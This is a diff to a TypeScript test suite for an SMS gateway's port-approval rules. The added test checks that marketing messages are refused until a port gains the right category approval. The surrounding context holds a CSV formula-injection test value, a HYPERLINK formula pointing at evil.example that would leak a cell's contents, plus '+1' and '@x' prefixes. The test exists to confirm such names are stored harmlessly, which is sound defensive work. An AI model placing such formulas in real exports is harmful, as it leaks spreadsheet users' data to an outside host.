@@ -82,6 +82,26 @@ describe('a port’s approval', () => {
       .toEqual({ allow: true, rule: 'allowed' })
   })
 
+  it('is of a category: marketing of another is refused where it is checked and sent, and what follows a new approval', async () => {
+    const approve = (category: string) => send(`10664003,sp-skycast,${category},service marketing,,`)
+    await approve('information')
+    await expect.poll(() => row('10664003')).toContain('information')
+    const to = '8613500135722'
+    const text = '【天穹】信 用 贷-款当天放款，回T退订'
+    const rules = async () => {
+      const items = ['marketing', 'service'].map((kind) => ({ from: '1066400301', to, class: kind, text }))
+      const checked = (await on.call('POST', '/v1/mt/check', { items })).body.items
+      return checked.map(({ rule }: { rule: string }) => rule)
+    }
+    expect(await rules()).toEqual(['port.category', 'allowed'])
+    const refused = await on.call('POST', '/v1/mt', { from: '10664003', to, text, class: 'marketing' })
+    expect([refused.status, refused.body.rule]).toEqual([403, 'port.category'])
+    await approve('finance')
+    await expect.poll(rules).toEqual(['allowed', 'allowed'])
+    const sent = await on.call('POST', '/v1/mt', { from: '10664003', to, text, class: 'marketing' })
+    expect(sent.status).toBe(202)
+  })
+
   it('has no name that a spreadsheet works out: it is shown, and comes back as it was', async () => {
     const name = '=HYPERLINK("http://evil.example?"&A1)'
     const csv = `partner_id,name_zh,name_en,kind\nsp-formula,"${name.replaceAll('"', '""')}",+1,@x\n`
